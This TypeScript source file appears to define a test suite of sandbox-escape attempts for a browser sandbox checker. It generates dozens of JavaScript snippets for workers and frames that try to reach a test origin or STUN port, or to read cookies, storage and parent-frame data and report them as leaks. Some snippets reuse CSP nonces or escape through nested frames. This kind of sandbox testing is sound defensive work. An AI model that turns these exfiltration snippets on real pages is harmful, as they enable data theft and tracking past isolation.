import type { AttackTargets } from './sandbox-witness.ts';

/**
 * Code that tries to reach somebody, or data that is not its own. What it gets at it sends as `{ leak }` over the
 * transport.
 */
export interface SandboxAttack {
  readonly name: string;
  readonly code: string;
  /** False for what needs more than a plain page has, so that the control is not expected to leak either. */
  readonly plain: boolean;
}

type Make = (out: string, udp: () => number) => string;
/** Attacks by name; those whose name begins with `~` are not expected to leak in a plain page of headless Chromium. */
type Attacks = Readonly<Record<string, Make>>;

const leak = (expression: string): string =>
  `const got = ${expression}; if (got !== undefined && got !== null) transport.send({ leak: String(got) });`;
const element = (html: string): string =>
  `const place = document.createElement('div'); document.body.append(place); place.innerHTML = ${JSON.stringify(html)};`;
const peer = (realm: string, udp: number): string =>
  `const peer = new (${realm}.RTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); peer.createDataChannel('x'); peer.setLocalDescription(); globalThis.kept = peer;`;
const blobWorker = (text: string): string =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: 'text/javascript' })))`;

/** Those that exist in documents and workers. */
const anywhere: Attacks = {
  fetch: out => `fetch('${out}/a', { mode: 'no-cors' });`,
  'fetch that outlives': out => `fetch('${out}/a', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' });`,
  'fetch of a maker': out => `(async () => {}).constructor("return fetch('${out}/a', { mode: 'no-cors' })")();`,
  'fetch by eval': out => `(0, eval)("fetch('${out}/a', { mode: 'no-cors' })");`,
  'fetch from the chain': out =>
    `for (let each = globalThis; each; each = Object.getPrototypeOf(each)) { const own = Object.getOwnPropertyDescriptor(each, 'fetch'); if (own) own.value.call(globalThis, '${out}/a', { mode: 'no-cors' }); }`,
  XMLHttpRequest: out => `const request = new XMLHttpRequest(); request.open('GET', '${out}/a'); request.send();`,
  WebSocket: out => `new WebSocket('${out.replace('http', 'ws')}/a');`,
  '~WebSocketStream': out => `new WebSocketStream('${out.replace('http', 'ws')}/a');`,
  EventSource: out => `new EventSource('${out}/a');`,
  '~WebTransport': out => `new WebTransport('${out.replace('http', 'https')}/a');`,
  'dynamic import': out => `import('${out}/a.js').catch(() => {});`,
  font: out =>
    `const font = new FontFace('f', 'url(${out}/a)'); font.load().catch(() => {}); (self.fonts ?? document.fonts).add(font);`,
  'worker of a blob': out => `${blobWorker(`fetch('${out}/a', { mode: 'no-cors' })`)};`,
  'worker of data': out => `new Worker("data:text/javascript,fetch('${out}/a',{mode:'no-cors'})");`,
  '~worker of an address': out => `new Worker('${out}/a.js');`,
  'worker module of a blob': out =>
    `new Worker(URL.createObjectURL(new Blob(["import '${out}/a.js'"], { type: 'text/javascript' })), { type: 'module' });`,
  BroadcastChannel: () => `new BroadcastChannel('loupe-attack').postMessage(1);`,
  indexedDB: () => `const asked = indexedDB.open('x'); asked.onsuccess = () => { ${leak('asked.result.name')} };`,
  caches: () => `caches.open('x').then(found => { ${leak('found')} });`,
  'files of the origin': () => `navigator.storage.getDirectory().then(found => { ${leak('found')} });`,
  locks: () => `navigator.locks.request('x', found => { ${leak('found.name')} });`,
};

/** Those of workers alone. */
const inWorkers: Attacks = {
  importScripts: out => `importScripts('${out}/a.js');`,
  'importScripts of a blob': out =>
    `importScripts(URL.createObjectURL(new Blob(["fetch('${out}/a', { mode: 'no-cors' })"], { type: 'text/javascript' })));`,
  'importScripts of data': out => `importScripts("data:text/javascript,fetch('${out}/a',{mode:'no-cors'})");`,
  '~location of a worker': out => `location.href = '${out}/a';`,
  '~sendBeacon of a worker': out => `navigator.sendBeacon('${out}/a', 'x');`,
  '~peer of a worker': (_, udp) => peer('self', udp()),
  '~message to the frame': out => `self.postMessage({ go: '${out}/a' }); self.postMessage('${out}/a');`,
  '~a second port': () =>
    `addEventListener('message', event => { if (event.ports[0]) transport.send({ leak: 'port' }); });`,
  '~module of a nested blob': out =>
    `import(URL.createObjectURL(new Blob(["import '${out}/a.js'"], { type: 'text/javascript' }))).catch(() => {});`,
};

/** Those that need a document. */
const inDocuments: Attacks = {
  beacon: out => `navigator.sendBeacon('${out}/a', 'x');`,
  '~fetchLater': out => `fetchLater('${out}/a', { activateAfter: 0 });`,
  image: out => `new Image().src = '${out}/a';`,
  'image of a set': out => element(`<img srcset="${out}/a 1x">`),
  'image of attribution': out => element(`<img attributionsrc="${out}/a" src="${out}/b">`),
  picture: out => element(`<picture><source srcset="${out}/a"><img></picture>`),
  'input image': out => element(`<input type="image" src="${out}/a">`),
  'background attribute': out => `document.body.setAttribute('background', '${out}/a');`,
  video: out => element(`<video src="${out}/a" autoplay></video>`),
  poster: out => element(`<video poster="${out}/a"></video>`),
  audio: out => `new Audio('${out}/a').load();`,
  '~track': out =>
    element(`<video><track default src="${out}/a"></video>`) +
    ` document.querySelector('track').track.mode = 'showing';`,
  'svg image': out => element(`<svg><image href="${out}/a" width="9" height="9"></image></svg>`),
  '~svg use': out => element(`<svg><use href="${out}/a#x"></use></svg>`),
  'svg filter': out =>
    element(
      `<svg><filter id="f"><feImage href="${out}/a"></feImage></filter><rect width="9" height="9" filter="url(#f)"></rect></svg>`,
    ),
  'style background': out => `document.body.style.background = 'url(${out}/a)';`,
  'style import': out => element(`<style>@import "${out}/a";</style>`),
  'style font': out =>
    element(`<style>@font-face { font-family: g; src: url(${out}/a) }</style><p style="font-family: g">x</p>`),
  'style cursor and set': out =>
    element(
      `<style>body { cursor: url(${out}/a), auto; list-style: url(${out}/b); background: image-set("${out}/c" 1x) }</style><ul><li>x</ul>`,
    ),
  'adopted style': out =>
    `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(${out}/a) }'); document.adoptedStyleSheets = [sheet];`,
  script: out => `const made = document.createElement('script'); made.src = '${out}/a.js'; document.body.append(made);`,
  'script of text': out =>
    `const made = document.createElement('script'); made.textContent = "new Image().src='${out}/a'"; document.body.append(made);`,
  'script with the nonce of a violation': out =>
    `addEventListener('securitypolicyviolation', event => { const nonce = /nonce-([^']+)/.exec(event.originalPolicy)?.[1]; const made = document.createElement('script'); made.nonce = nonce ?? ''; made.src = '${out}/a.js'; document.body.append(made); }); const first = document.createElement('script'); first.src = '${out}/b.js'; document.body.append(first);`,
  'script with a nonce of the page': out =>
    `const made = document.createElement('script'); made.nonce = [...document.querySelectorAll('script')].map(each => each.nonce).find(each => each) ?? ''; made.src = '${out}/a.js'; document.body.append(made);`,
  handler: out => element(`<img src="data:," onerror="new Image().src='${out}/a'">`),
  'style link': out => element(`<link rel="stylesheet" href="${out}/a">`),
  preload: out =>
    `const link = document.createElement('link'); link.rel = 'preload'; link.as = 'image'; link.href = '${out}/a'; document.head.append(link);`,
  prefetch: out =>
    `const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${out}/a'; document.head.append(link);`,
  modulepreload: out =>
    `const link = document.createElement('link'); link.rel = 'modulepreload'; link.href = '${out}/a.js'; document.head.append(link);`,
  '~preconnect': out =>
    `const link = document.createElement('link'); link.rel = 'preconnect'; link.href = '${out}'; document.head.append(link);`,
  '~dns-prefetch': out =>
    `const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '${out}'; document.head.append(link);`,
  '~icon and manifest': out =>
    element(
      `<link rel="icon" href="${out}/a"><link rel="manifest" href="${out}/b"><link rel="compression-dictionary" href="${out}/c">`,
    ),
  '~speculation rules': out =>
    `const made = document.createElement('script'); made.type = 'speculationrules'; made.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${out}/a'], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: ['${out}/b'] }] }); document.head.append(made);`,
  frame: out => element(`<iframe src="${out}/a"></iframe>`),
  frameset: out =>
    `const set = document.createElement('frameset'); set.innerHTML = '<frame src="${out}/a">'; document.documentElement.append(set);`,
  'frame of text': out =>
    `const made = document.createElement('iframe'); made.srcdoc = "<script>new Image().src='${out}/a'</scr" + "ipt><img src='${out}/b'>"; document.body.append(made);`,
  'frame of text that moves': out =>
    `const made = document.createElement('iframe'); made.srcdoc = "<meta http-equiv=refresh content='0;url=${out}/a'>"; document.body.append(made);`,
  'frame of script': out =>
    `const made = document.createElement('iframe'); made.src = "javascript:void(new Image().src='${out}/a')"; document.body.append(made);`,
  'frame’s own realm': out =>
    `const made = document.createElement('iframe'); document.body.append(made); made.contentWindow.fetch('${out}/a', { mode: 'no-cors' });`,
  'frame moved from outside': out =>
    `const made = document.createElement('iframe'); document.body.append(made); made.contentWindow.location = '${out}/a';`,
  object: out => element(`<object data="${out}/a"></object>`),
  embed: out => element(`<embed src="${out}/a">`),
  form: out =>
    element(`<form action="${out}/a" method="post"><input name="x" value="y"></form>`) +
    ` document.querySelector('form').submit();`,
  'form of another window': out =>
    element(`<form action="${out}/a" target="_blank"><button>x</button></form>`) +
    ` document.querySelector('form button').click();`,
  popup: out => `window.open('${out}/a');`,
  'top navigation': out => `top.location = '${out}/a';`,
  'parent navigation': out => `parent.location.replace('${out}/a');`,
  'own navigation': out => `location = '${out}/a';`,
  'own replacement': out => `location.replace('${out}/a');`,
  'own navigation with a name': out => `window.name = 'secret'; location.assign('${out}/a');`,
  'meta refresh': out =>
    `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${out}/a'; document.head.append(meta);`,
  'link clicked': out => element(`<a href="${out}/a">x</a>`) + ` document.querySelector('a').click();`,
  ping: out => element(`<a href="#x" ping="${out}/a">x</a>`) + ` document.querySelector('a').click();`,
  download: out => element(`<a href="${out}/a" download="x">x</a>`) + ` document.querySelector('a').click();`,
  'link to the top': out => element(`<a href="${out}/a" target="_top">x</a>`) + ` document.querySelector('a').click();`,
  base: out =>
    `const base = document.createElement('base'); base.href = '${out}/'; document.head.append(base); const image = new Image(); image.src = 'a';`,
  'script address': out => `location = "javascript:void(new Image().src='${out}/a')";`,
  'data navigation': out => `location = "data:text/html,<img src='${out}/a'>";`,
  'blob navigation': out =>
    `location = URL.createObjectURL(new Blob(["<img src='${out}/a'>"], { type: 'text/html' }));`,
  'document.write': out =>
    `document.open(); document.write("<img src='${out}/a'><script src='${out}/b.js'></scr" + "ipt>"); document.close();`,
  'shadow template': out =>
    element('') +
    ` const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'open' }).innerHTML = "<img src='${out}/a'>";`,
  'parsed document': out =>
    `const other = new DOMParser().parseFromString("<img src='${out}/a'>", 'text/html'); document.body.append(document.adoptNode(other.querySelector('img')));`,
  '~transformed document': out =>
    `const style = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\\'${out}/a\\')"/></xsl:template></xsl:stylesheet>', 'text/xml'); const work = new XSLTProcessor(); work.importStylesheet(style); work.transformToFragment(style, document);`,
  'paint worklet': out => `CSS.paintWorklet.addModule('${out}/a.js').catch(() => {});`,
  'audio worklet': out => `new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('${out}/a.js').catch(() => {});`,
  'shared worker': out =>
    `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${out}/a', { mode: 'no-cors' })"], { type: 'text/javascript' })));`,
  'service worker': () =>
    `navigator.serviceWorker.register('/assets/worker.js').then(found => { ${leak('found.scope')} });`,
  'peer connection': (_, udp) => peer('window', udp()),
  'peer connection by its old name': (_, udp) => peer('({ RTCPeerConnection: webkitRTCPeerConnection })', udp()),
  'peer connection of a frame': (_, udp) =>
    `const made = document.createElement('iframe'); document.body.append(made); ${peer('made.contentWindow', udp())}`,
  'peer connection of a frame of text': (_, udp) =>
    `const made = document.createElement('iframe'); made.srcdoc = ${JSON.stringify(`<script>${peer('window', udp())}</script>`)}; document.body.append(made);`,
  'peer connection of an object': (_, udp) =>
    `const made = document.createElement('object'); made.type = 'text/html'; made.data = 'about:blank'; document.body.append(made); setTimeout(() => { ${peer('made.contentWindow', udp())} }, 100);`,
  '~payment': out =>
    `new PaymentRequest([{ supportedMethods: '${out.replace('http', 'https')}/a' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
  '~identity provider': out =>
    `navigator.credentials.get({ identity: { providers: [{ configURL: '${out}/a', clientId: 'x' }] } }).catch(() => {});`,
  '~reports of a policy': out =>
    `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy'; meta.content = "img-src 'none'; report-uri ${out}/a"; document.head.append(meta); new Image().src = 'data:,x';`,
  cookies: () => `document.cookie = 'x=1'; ${leak(`document.cookie || undefined`)}`,
  localStorage: () => `localStorage.setItem('x', '1'); ${leak(`localStorage.getItem('x')`)}`,
  sessionStorage: () => `sessionStorage.setItem('x', '1'); ${leak(`sessionStorage.getItem('x')`)}`,
  'document of the parent': () => leak('parent.document.title'),
  'document of the top': () => leak('top.document.body'),
  'storage of the parent': () => leak('parent.localStorage'),
  'name of the parent': () => leak('parent.name'),
  'address of the parent': () => leak('parent.location.href'),
  'element around': () => leak('frameElement'),
  'script into the parent': out => `parent.eval("new Image().src='${out}/a'");`,
  history: () => `history.pushState(1, '', '#x'); ${leak('history.state')}`,
};

const made = (attacks: Attacks, kind: string, targets: AttackTargets): readonly SandboxAttack[] =>
  Object.entries(attacks).map(([key, make]) => {
    const name = `${kind}: ${key.replace('~', '')}`;
    return { name, plain: !key.startsWith('~'), code: make(targets.origin(name), () => targets.udp(name)) };
  });

/** Attacks of code that runs in a worker. A witness records each under its name. */
export const workerAttacks = (targets: AttackTargets): readonly SandboxAttack[] =>
  made({ ...anywhere, ...inWorkers }, 'worker', targets);

/** Attacks of code that has a document. A witness records each under its name. */
export const frameAttacks = (targets: AttackTargets): readonly SandboxAttack[] =>
  made({ ...anywhere, ...inDocuments }, 'frame', targets);
